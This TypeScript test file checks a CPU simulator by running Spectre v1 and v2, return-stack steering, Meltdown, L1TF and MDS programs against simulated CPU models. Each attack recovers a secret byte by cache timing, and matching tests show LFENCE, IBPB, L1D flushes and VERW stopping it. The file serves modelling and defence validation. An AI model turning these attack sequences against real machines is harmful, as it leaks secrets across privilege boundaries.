// The published attacks as user programs in machine code, in the detailed gear. Each recovers a byte by time alone where the CPU model
// has the flaw, and recovers nothing where it has not or where a defence was used.
import assert from "node:assert/strict";
import { test } from "node:test";
import {
  type Assembler,
  byte,
  eax,
  ecx,
  edi,
  mem,
  memIndexed,
  qword,
  r8,
  r9,
  r10,
  r11,
  r12,
  r12d,
  r13,
  r14,
  rax,
  rbx,
  rcx,
  rdi,
  rsp,
  word,
} from "../assembler/index.ts";
import { CPU_MODELS, type CpuModel } from "../hardware/index.ts";
import type { DetailedModel } from "./detailed-model.ts";
import { detailedModelOf } from "./detailed-model-of.ts";
import { AttackBench, CODE, DATA, PAGE_DIRECTORY, PROBE, PROBE_LINES, PROBE_SHIFT, SECRET_PAGE, WINDOW_PAGE } from "./testing-detailed.ts";

function modelNamed(key: string): DetailedModel {
  const model: CpuModel | undefined = CPU_MODELS.find((candidate) => candidate.key === key);
  assert.ok(model !== undefined);
  return detailedModelOf(model);
}

const skx = modelNamed("skx");
const withoutBugs: DetailedModel = { ...skx, bugs: { meltdown: false, l1tf: false, mds: false } };
const PAGE_FAULT = 14;
const SECRET = 0xa7;
/** Where the secret lies in its page; its line holds nothing else. */
const SECRET_OFFSET = 0x340;

function benchOn(model: DetailedModel = skx, cpus: 1 | 2 = 1): AttackBench {
  const bench = new AttackBench(model, cpus);
  bench.flat.memory(SECRET_PAGE + SECRET_OFFSET, 1)[0] = SECRET;
  return bench;
}

/** Dependents of a transient load: the byte in EAX chooses a probe line. */
function encode(a: Assembler): Assembler {
  return a
    .shl(rax, PROBE_SHIFT)
    .mov(rcx, PROBE)
    .mov(ecx, mem(memIndexedBase(a), 0));
}

function memIndexedBase(a: Assembler) {
  a.add(rcx, rax);
  return rcx;
}

test("flush and reload: time tells a cached line from a flushed one", () => {
  const bench = benchOn();
  bench.flushProbe();
  bench.run((a) =>
    a
      .mov(rax, PROBE + (77 << PROBE_SHIFT))
      .mov(ecx, mem(rax))
      .mov(ecx, mem(rax, 200 << PROBE_SHIFT)),
  );
  const times = bench.times();
  const hit = times[77] ?? 0;
  const misses = [...times].filter((_, line) => line !== 77 && line !== 277).sort((a, b) => a - b);
  assert.ok(hit < 100, `hit ${hit}`);
  assert.ok((misses[0] ?? 0) > 250, `fastest miss ${misses[0]}`);
  assert.deepEqual(bench.hits().length, PROBE_LINES, "reading has filled all lines");
});

const ARRAY = DATA + 0x100;
const ARRAY_LENGTH = 16;
const LENGTH = DATA;
const ROUNDS = 40;

/** Trains a bounds check with indices in range and ends with one outside, at `target`: `fence` stands behind the check. */
function spectreV1(bench: AttackBench, fence: (a: Assembler) => Assembler, target = SECRET_PAGE + SECRET_OFFSET): number[] {
  const outside = target - ARRAY;
  bench.flat.memory(LENGTH, 8).set([ARRAY_LENGTH]);
  // The victim uses its secret, so that it is in a cache.
  bench.run((a) => a.mov(r8, SECRET_PAGE + SECRET_OFFSET).mov(eax, mem(r8)));
  bench.flushProbe();
  const result = bench.run((a) => {
    a.mov(r12d, ROUNDS).mov(r10, LENGTH).mov(r11, ARRAY).mov(r14, outside);
    a.label("round")
      .mov(rdi, r12)
      .and(rdi, ARRAY_LENGTH - 1);
    // The last round has the index outside, chosen without a branch.
    a.cmp(r12, 1).cmove(rdi, r14).clflush(mem(r10)).mfence().call("victim").dec(r12).jne("round").jmp("end");
    a.label("victim").cmp(rdi, mem(r10)).jae("out");
    fence(a).movzx(eax, byte(memIndexed(r11, rdi, 1)));
    encode(a).label("out").ret();
    return a.label("end").nop();
  });
  assert.equal(result.vector, -1, "a fault of a wrong path is squashed");
  // The training left the line of value 0.
  return bench.hits().filter((line) => line !== 0);
}

test("Spectre v1: a bounds check bypass recovers a byte by time alone", () => {
  assert.deepEqual(
    spectreV1(benchOn(), (a) => a),
    [SECRET],
  );
});

test("Spectre v1: LFENCE behind the check stops it", () => {
  assert.deepEqual(
    spectreV1(benchOn(), (a) => a.lfence()),
    [],
  );
});

test("Spectre v1: a wrong path is no longer than the reorder buffer", () => {
  const padded = (a: Assembler): Assembler => Array.from({ length: 64 }).reduce<Assembler>((program) => program.inc(rbx), a);
  assert.deepEqual(spectreV1(benchOn({ ...skx, reorderBuffer: 32 }), padded), []);
  assert.deepEqual(spectreV1(benchOn(), padded), [SECRET]);
});

test("Spectre v1: what is not mapped is not read, and the fault is squashed", () => {
  const bench = benchOn(withoutBugs);
  bench.setPageEntry(WINDOW_PAGE, 0n);
  assert.deepEqual(
    spectreV1(bench, (a) => a, WINDOW_PAGE + SECRET_OFFSET),
    [],
  );
});

const POINTER = DATA + 0x400;

/** Trains an indirect call to a gadget, then calls through a flushed pointer to something harmless. */
function spectreV2(bench: AttackBench, before: (bench: AttackBench) => void): number[] {
  const body =
    (rounds: number, last: "gadget" | "harmless") =>
    (a: Assembler): Assembler => {
      a.mov(r12d, rounds).mov(r10, POINTER);
      a.label("round")
        .mov(rax, "gadget")
        .mov(rbx, last)
        .cmp(r12, 1)
        .cmove(rax, rbx)
        .mov(qword(mem(r10)), rax);
      a.mov(rdi, SECRET_PAGE)
        .mov(r13, SECRET_PAGE + SECRET_OFFSET)
        .cmp(r12, 1)
        .cmove(rdi, r13);
      a.clflush(mem(r10)).mfence().call("site").dec(r12).jne("round").jmp("end");
      a.align(64)
        .label("site")
        .call(qword(mem(r10)))
        .ret();
      a.align(64)
        .label("gadget")
        .movzx(eax, byte(mem(rdi)));
      encode(a).ret();
      a.align(64).label("harmless").ret();
      return a.label("end").nop();
    };
  bench.run((a) => a.mov(r8, SECRET_PAGE + SECRET_OFFSET).mov(eax, mem(r8)));
  bench.run(body(ROUNDS, "gadget"));
  before(bench);
  bench.flushProbe();
  bench.run(body(1, "harmless"));
  return bench.hits();
}

test("Spectre v2: a trained indirect call executes a gadget with the victim's registers", () => {
  assert.deepEqual(
    spectreV2(benchOn(), () => undefined),
    [SECRET],
  );
});

test("Spectre v2: IBPB between training and victim stops it", () => {
  assert.deepEqual(
    spectreV2(benchOn(), (bench) => exportsOf(bench).indirectBranchPredictorBarrier()),
    [],
  );
});

test("return stack: a return goes on behind its call until its real address is known", () => {
  const bench = benchOn();
  bench.run((a) => a.mov(r8, SECRET_PAGE + SECRET_OFFSET).mov(eax, mem(r8)));
  bench.flushProbe();
  bench.run((a) => {
    a.mov(rdi, SECRET_PAGE + SECRET_OFFSET).call("detour");
    a.movzx(eax, byte(mem(rdi)));
    encode(a).label("after").jmp("end");
    a.align(64)
      .label("detour")
      .mov(rax, "end")
      .mov(qword(mem(rsp)), rax)
      .clflush(mem(rsp))
      .mfence()
      .ret();
    return a.align(64).label("end").nop();
  });
  assert.deepEqual(bench.hits(), [SECRET]);
});

test("return stack underflow: a return whose entry was lost is steered by where it went before (RSBA)", () => {
  const attack = (model: DetailedModel): number[] => {
    const bench = benchOn(model);
    bench.run((a) => a.mov(r8, SECRET_PAGE + SECRET_OFFSET).mov(eax, mem(r8)));
    bench.flushProbe();
    bench.run((a) => {
      a.mov(rdi, DATA).call("outer");
      a.movzx(eax, byte(mem(rdi)));
      encode(a).lfence().cmp(rdi, DATA).jne("end");
      a.mov(rdi, SECRET_PAGE + SECRET_OFFSET)
        .call("outer")
        .jmp("end");
      // 20 calls inside each other push all that the stack of 16 held before.
      a.align(64).label("outer").mov(ecx, 20).call("inner").clflush(mem(rsp)).mfence().ret();
      a.align(64).label("inner").dec(ecx).je("innermost").call("inner").label("innermost").ret();
      return a.align(64).label("end").nop();
    });
    return bench.hits().filter((line) => line !== 0);
  };
  assert.deepEqual(attack({ ...skx, returnUnderflow: "indirect" }), [SECRET]);
  assert.deepEqual(attack({ ...skx, returnStackDepth: 64 }), []);
});

/** Loads from `va`, which faults, and lets the byte choose a probe line; the caller reads the channel. */
function faultingLoad(bench: AttackBench, va: number): void {
  const result = bench.run((a) => encode(a.mov(r9, va).movzx(eax, byte(mem(r9)))));
  assert.equal(result.vector, PAGE_FAULT);
  assert.equal(result.cr2, va);
}

const PRESENT = 1n;
const USER = 4n;
const RESERVED_BIT = 1n << 51n;

/** The victim reads its secret; the attacker's page-table entry names the secret's frame but is not usable. */
function l1tf(model: DetailedModel, entry: bigint, before: (bench: AttackBench) => void): number[] {
  const bench = benchOn(model);
  bench.setPageEntry(WINDOW_PAGE, entry);
  bench.flushProbe();
  bench.run((a) =>
    a
      .mov(r8, SECRET_PAGE + SECRET_OFFSET)
      .mov(eax, mem(r8))
      .lfence(),
  );
  before(bench);
  faultingLoad(bench, WINDOW_PAGE + SECRET_OFFSET);
  return bench.hits();
}

const nothing = (): void => undefined;
const notPresent = BigInt(SECRET_PAGE) | USER;

test("L1TF: an entry with P=0 reads L1D at its frame", () => {
  assert.deepEqual(l1tf(skx, notPresent, nothing), [SECRET]);
});

test("L1TF: so does an entry with a reserved bit", () => {
  assert.deepEqual(l1tf(skx, notPresent | PRESENT | RESERVED_BIT, nothing), [SECRET]);
});

test("L1TF: not when the line is not in L1D, whatever L2 holds", () => {
  assert.deepEqual(
    l1tf(skx, notPresent, (bench) => exportsOf(bench).flushL1d()),
    [],
  );
});

test("L1TF: not on a CPU without the bug", () => {
  assert.deepEqual(l1tf({ ...skx, bugs: { ...skx.bugs, l1tf: false, mds: false } }, notPresent, nothing), []);
  assert.deepEqual(l1tf(modelNamed("clx"), notPresent, nothing), []);
});

test("L1TF: a zero entry looks up frame 0", () => {
  assert.deepEqual(l1tf(skx, 0n, nothing), []);
});

test("L1TF: an upper level's entry with P=0 does the same, with that level's offset", () => {
  const bench = benchOn();
  // The flat machine has 4 MiB; the entry for 4..6 MiB of the page directory is free.
  const directory = bench.core.physical.byteOffset + PAGE_DIRECTORY;
  bench.core.view.setBigUint64(directory + 8 * 2, USER, true);
  bench.core.functions.flushAllTlb();
  bench.flushProbe();
  bench.run((a) =>
    a
      .mov(r8, SECRET_PAGE + SECRET_OFFSET)
      .mov(eax, mem(r8))
      .lfence(),
  );
  faultingLoad(bench, 0x400000 + SECRET_PAGE + SECRET_OFFSET);
  assert.deepEqual(bench.hits(), [SECRET]);
});

/** The kernel has read its secret; a user program loads from that page. */
function meltdown(model: DetailedModel, before: (bench: AttackBench) => void): number[] {
  const bench = benchOn(model);
  bench.setPageEntry(SECRET_PAGE, bench.pageEntry(SECRET_PAGE) & ~USER);
  bench.flushProbe();
  bench.core.functions.load8(SECRET_PAGE + SECRET_OFFSET);
  // Long enough for the line to arrive.
  bench.run((a) => a.mov(r8, PROBE).clflush(mem(r8)).mov(eax, mem(r8)).lfence().clflush(mem(r8)).mfence());
  before(bench);
  faultingLoad(bench, SECRET_PAGE + SECRET_OFFSET);
  return bench.hits();
}

test("Meltdown: a user load gets supervisor data from L1D before it faults", () => {
  assert.deepEqual(meltdown({ ...skx, bugs: { meltdown: true, l1tf: false, mds: false } }, nothing), [SECRET]);
});

test("Meltdown: only with the bug, and only from L1D", () => {
  assert.deepEqual(meltdown(withoutBugs, nothing), []);
  assert.deepEqual(meltdown(modelNamed("clx"), nothing), []);
  const flush = (bench: AttackBench): void => exportsOf(bench).flushL1d();
  assert.deepEqual(meltdown({ ...skx, bugs: { meltdown: true, l1tf: false, mds: false } }, flush), []);
});

/** The victim's line went through a fill buffer; a faulting load of another page gets it, at the offset within the line. */
function mds(model: DetailedModel, before: (a: Assembler) => Assembler): number[] {
  const bench = benchOn(model);
  bench.setPageEntry(WINDOW_PAGE, bench.pageEntry(WINDOW_PAGE) & ~USER);
  bench.flushProbe();
  const result = bench.run((a) => {
    a.mov(r8, SECRET_PAGE + SECRET_OFFSET)
      .mov(r9, WINDOW_PAGE + SECRET_OFFSET)
      .mov(r10, DATA)
      .mov(eax, mem(r10));
    a.clflush(mem(r8)).mfence().mov(eax, mem(r8)).lfence();
    return encode(before(a).movzx(eax, byte(mem(r9))));
  });
  assert.equal(result.vector, PAGE_FAULT);
  return bench.hits();
}

const mdsOnly: DetailedModel = { ...skx, bugs: { meltdown: false, l1tf: false, mds: true } };
const unchanged = (a: Assembler): Assembler => a;

test("MDS: a faulting load samples the fill buffer used last", () => {
  assert.deepEqual(mds(mdsOnly, unchanged), [SECRET]);
});

test("MDS: VERW with MD_CLEAR stops it; without that microcode it does not; a CPU without the bug forwards nothing", () => {
  const verw = (a: Assembler): Assembler => a.verw(word(mem(r10)));
  assert.deepEqual(mds(mdsOnly, verw), []);
  assert.deepEqual(mds({ ...mdsOnly, mdClear: false }, verw), [SECRET]);
  assert.deepEqual(mds(withoutBugs, unchanged), []);
});

test("MDS: a sibling samples what the other thread's kernel loads; a CPU of another core gets nothing", () => {
  const sampled = (threadsPerCore: number): number[] => {
    const bench = benchOn({ ...mdsOnly, threadsPerCore }, 2);
    bench.setPageEntry(WINDOW_PAGE, bench.pageEntry(WINDOW_PAGE) & ~USER);
    const attack = (): void => void bench.run((a) => encode(a.mov(r9, WINDOW_PAGE + SECRET_OFFSET).movzx(eax, byte(mem(r9)))));
    // Once for nothing: translations and code are at hand then, and no load of the attacker's own comes last.
    attack();
    bench.flushProbe();
    bench.meanwhile((functions) => functions.load8(SECRET_PAGE + SECRET_OFFSET));
    attack();
    return bench.hits();
  };
  assert.deepEqual(sampled(2), [SECRET]);
  assert.ok(!sampled(1).includes(SECRET));
});

test("MDS: a faulting load samples a store whose page offset matches", () => {
  const sample = (model: DetailedModel, before: (a: Assembler) => Assembler): number[] => {
    const bench = benchOn(model);
    bench.setPageEntry(WINDOW_PAGE, bench.pageEntry(WINDOW_PAGE) & ~USER);
    bench.flushProbe();
    bench.run((a) => {
      a.mov(r8, DATA + 0x688)
        .mov(r9, WINDOW_PAGE + 0x688)
        .mov(r10, DATA)
        .mov(rdi, SECRET)
        .mov(eax, mem(r9, 0x1000));
      return encode(before(a.mov(qword(mem(r8)), rdi).lfence()).movzx(eax, byte(mem(r9))));
    });
    return bench.hits();
  };
  assert.deepEqual(sample(mdsOnly, unchanged), [SECRET]);
  assert.ok(!sample(mdsOnly, (a) => a.verw(word(mem(r10)))).includes(SECRET));
  assert.deepEqual(sample(withoutBugs, unchanged), []);
});

test("a wrong path changes no register, flag or byte of memory", () => {
  const bench = benchOn();
  const before = bench.flat.memory(DATA, 0x1000).slice();
  const result = bench.run((a) => {
    // The branch is always taken but predicted from an empty table; its condition comes from a flushed line.
    a.mov(r10, DATA)
      .clflush(mem(r10))
      .mfence()
      .mov(edi, 5)
      .cmp(qword(mem(r10)), 0)
      .je("right");
    a.mov(edi, 6)
      .mov(qword(mem(r10, 64)), 1)
      .mov(qword(mem(r10, 128)), rdi)
      .add(rdi, r10)
      .stc();
    return a.label("right").nop();
  });
  assert.equal(bench.flat.registers[2 * 7], 5);
  assert.equal(result.flags & 1, 0);
  assert.deepEqual(bench.flat.memory(DATA, 0x1000), before);
  assert.ok(bench.structures.counters().windows > 0);
  assert.equal(CODE % 64, 0);
});

function exportsOf(bench: AttackBench) {
  return bench.exports;
}
